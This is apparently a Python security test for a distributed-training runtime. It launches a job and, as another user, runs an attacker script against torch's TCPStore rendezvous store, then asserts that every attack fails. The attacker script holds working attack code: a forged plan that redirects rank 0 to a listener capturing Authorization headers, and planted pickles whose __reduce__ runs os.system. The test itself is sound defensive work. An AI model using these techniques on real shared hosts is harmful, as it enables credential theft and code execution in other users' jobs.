"""A co-tenant on the same host attacks a running job through its
rendezvous store (torch's TCPStore, which any local process can connect to):

* it writes a "moved" plan naming its own listener, which made rank 0 send
  the job's credential there;
* it plants pickles under the keys where ``job.on_rank0`` results go, which
  ran its code inside the job's workers;
* it reads the progress rank 0 reports every step;
* it looks for sockets of the job listening on every interface.

The attacker is a process of another uid (``nobody``) with the same Python
and torch. (Overwriting a result rank 0 has already written is a denial of
service the store cannot prevent: the job then stalls until its liveness
bounds end it; docs/security.md.) The job must finish with every step, no request may reach the
attacker's listener, no planted code may run, no value may be read, and
every socket the job listens on is bound to its advertised address.
"""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from othersuid import NOBODY, as_uid, can_switch_uid

pytestmark = [pytest.mark.skipif(can_switch_uid() is not None, reason=str(can_switch_uid())),
              pytest.mark.timeout(150)]

JOB, TOKEN, STEPS = "victim", "secret-credential-of-the-victim", 60

SCRIPT = """
import sys, time, torch
import tidal.runtime
from torch.utils.data import DataLoader, TensorDataset

job = tidal.runtime.init()
torch.manual_seed(0)
model = job.wrap(torch.nn.Linear(4, 1))
opt = torch.optim.SGD(model.parameters(), lr=0.01)
data = TensorDataset(torch.randn(640, 4), torch.randn(640, 1))
loader = job.loader(DataLoader(data, batch_size=32, shuffle=True))
evals = []

def evaluate(epoch):
    time.sleep(0.5)  # the attacker's pickles are in place before rank 0 writes its result
    return {"epoch": epoch, "ok": True}

for epoch in job.epochs(6):
    for x, y in loader:
        opt.zero_grad()
        torch.nn.functional.mse_loss(model(x), y).backward()
        opt.step()
        time.sleep(0.05)
    evals.append(job.on_rank0(evaluate, epoch))
assert all(e == {"epoch": i, "ok": True} for i, e in enumerate(evals)), evals
print("EVALS-OK" if len(evals) == 6 else "EVALS-SHORT", flush=True)
"""

# the attacker: no credential, only the store's port and the job's name (both visible to any local user)
ATTACKER = r"""
import datetime, json, os, pickle, sys, threading, time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
import torch.distributed as dist

port, job, marker, seconds = int(sys.argv[1]), sys.argv[2], sys.argv[3], float(sys.argv[4])
seen = []

class Listen(BaseHTTPRequestHandler):
    def _any(self):
        seen.append({"path": self.path, "auth": self.headers.get("Authorization")})
        body = json.dumps({"status": "ok", "store_host": "127.0.0.1", "store_port": port}).encode()
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    do_GET = do_POST = _any
    def log_message(self, *a): pass

httpd = ThreadingHTTPServer(("127.0.0.1", 0), Listen)
threading.Thread(target=httpd.serve_forever, daemon=True).start()
trap = f"http://127.0.0.1:{httpd.server_address[1]}"

class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {marker}",))

store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=datetime.timedelta(seconds=10))
writes, end, leaked, read = 0, time.time() + seconds, [], 0
while time.time() < end:
    try:
        if store.check([f"tidal/{job}/progress"]):  # what rank 0 reports every step: readable?
            raw = bytes(store.get(f"tidal/{job}/progress"))
            read += 1
            if b"step" in raw or b"epoch" in raw:
                leaked.append(raw[:80].decode(errors="replace"))
        store.set(f"tidal/{job}/plan", json.dumps({"moved": trap}))
        for gen in range(1, 4):
            for call in range(1, 8):  # planted where the next results will go (one already written is left)
                store.compare_set(f"tidal/{job}/g{gen}/rank0/{call}", "", pickle.dumps(Payload()))
    except Exception:  # the job ended and its store with it
        break
    writes += 1
    time.sleep(0.05)
time.sleep(max(0.0, min(3.0, end - time.time())))  # a request the job sent late still reaches the listener
print(json.dumps({"uid": os.getuid(), "writes": writes, "seen": seen, "read": read, "leaked": leaked[:3]}),
      flush=True)
"""


def _descendants(pid: int) -> set[int]:
    out, todo = {pid}, [pid]
    while todo:
        p = todo.pop()
        for t in Path(f"/proc/{p}/task").glob("*"):
            try:
                kids = (t / "children").read_text().split()
            except OSError:
                continue
            for k in map(int, kids):
                if k not in out:
                    out.add(k)
                    todo.append(k)
    return out


def _listening(pids: set[int]) -> list[tuple[str, int]]:
    """(local address, pid) of every listening TCP socket of ``pids``."""
    found = []
    for line in subprocess.run(["ss", "-ltnpH"], capture_output=True, text=True).stdout.splitlines():
        cols = line.split()
        for pid in map(int, re.findall(r"pid=(\d+)", line)):
            if pid in pids:
                found.append((cols[3], pid))
    return found


def _store_port(home: Path, pid: int, timeout: float = 60) -> int:
    """The store's port, through the master's API (the test holds the credential)."""
    from tidal.runtime.client import MasterClient

    f = home / "jobs" / f"{JOB}.json"
    deadline = time.monotonic() + timeout
    while not f.exists():
        assert time.monotonic() < deadline, "the job did not start"
        time.sleep(0.1)
    client = MasterClient(json.loads(f.read_text())["url"], token=TOKEN)
    return int(client.get("/store")["store_port"])


def test_a_co_tenant_cannot_steer_the_store_steal_the_token_or_run_code(open_tmp: Path) -> None:
    tmp_path = open_tmp
    work = tmp_path / "w"
    work.mkdir()
    work.chmod(0o777)  # the attacker may write its evidence nowhere else; it reads nothing of the job here
    (tmp_path / "job.py").write_text(SCRIPT)
    (tmp_path / "attacker.py").write_text(ATTACKER)
    (tmp_path / "attacker.py").chmod(0o644)
    marker = work / "pwned"
    env = dict(os.environ, TIDAL_HOME=str(tmp_path / "home"), TIDAL_JOB_TOKEN=TOKEN, OMP_NUM_THREADS="1",
               GLOO_SOCKET_IFNAME="lo", PYTHONUNBUFFERED="1")
    job = subprocess.Popen([sys.executable, "-m", "tidal.runtime.launch", "run", "--workers", "2", "--job", JOB,
                            "--timeout", "120", str(tmp_path / "job.py")], env=env, stdout=subprocess.PIPE,
                           stderr=subprocess.STDOUT, text=True, start_new_session=True)
    attacker = None
    try:
        port = _store_port(tmp_path / "home", job.pid)
        attacker = subprocess.Popen(as_uid(NOBODY, [sys.executable, str(tmp_path / "attacker.py"), str(port), JOB,
                                                    str(marker), "12"]),
                                    stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd="/")
        time.sleep(4)  # workers have formed their group and train: their sockets are open
        listening = _listening(_descendants(job.pid))
        out, _ = job.communicate(timeout=120)
        a_out, a_err = attacker.communicate(timeout=60)
    finally:
        for p in (job, attacker):
            if p is not None and p.poll() is None:
                os.killpg(p.pid, signal.SIGKILL) if p is job else p.kill()
    assert attacker.returncode == 0, a_err[-3000:]
    report = json.loads(a_out.strip().splitlines()[-1])
    assert report["uid"] == NOBODY and report["writes"] > 20, report  # the attack was made, as another uid
    assert job.returncode == 0, out[-4000:]
    # both ranks got every on_rank0 result, and each was the job's own (the script asserts it)
    assert out.count("EVALS-OK") == 2 and "EVALS-SHORT" not in out, out[-4000:]
    assert report["seen"] == [], report  # no request (and no credential) reached the attacker
    assert report["read"] > 0 and report["leaked"] == [], report  # the job's values were there, unreadable
    assert not marker.exists(), "a planted pickle ran inside the job"
    assert TOKEN not in a_out
    assert "did not write" in out, out[-3000:]  # the forged values were seen and refused
    # every listening socket of the job is on its advertised address (loopback here), none on a wildcard
    assert listening, "no listening socket of the job was found"
    wild = [(a, p) for a, p in listening if a.startswith(("0.0.0.0:", "*:", "[::]:"))]
    assert not wild, listening
    assert {a.rsplit(":", 1)[0] for a, _ in listening} == {"127.0.0.1"}, listening
